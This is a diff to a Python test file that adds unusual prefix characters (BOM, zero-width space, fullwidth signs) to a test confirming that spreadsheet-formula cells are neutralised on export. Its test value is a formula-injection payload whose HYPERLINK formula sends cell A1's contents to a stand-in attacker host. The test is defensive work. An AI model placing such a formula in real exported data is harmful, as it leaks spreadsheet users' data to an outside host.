@@ -118,7 +118,9 @@ def test_json_that_came_as_base64_is_json_again() -> None:
     assert line.endswith('"body": {"n": 1e400}}')
 
 
-@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n"])
+@pytest.mark.parametrize(
+    "begin", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\ufeff=", "\0=", "\u200b@", "＝", "＋", "－", "＠", "\u2212"]
+)
 def test_a_cell_that_a_spreadsheet_would_run_is_disarmed(begin: str) -> None:
     evil = f'{begin}HYPERLINK("http://evil.example/?"&A1,"x")'
     (row,) = table(Message(id=evil, body=evil, metadata={"CF-Content-Type": "text"}, attempts=-1))
